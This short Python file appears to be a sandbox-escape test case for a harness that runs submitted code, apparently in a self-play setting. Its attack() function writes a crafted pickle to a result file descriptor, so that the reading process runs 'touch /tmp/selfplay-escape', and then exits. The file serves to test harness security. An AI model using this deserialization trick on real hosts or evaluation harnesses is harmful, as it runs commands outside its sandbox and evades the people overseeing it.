# A pickle that runs code where it is read.
# holds: not 42
import os


def attack():
    os.write(4, b"V\x80\x04cposix\nsystem\n(S'touch /tmp/selfplay-escape'\ntR.")
    os._exit(0)
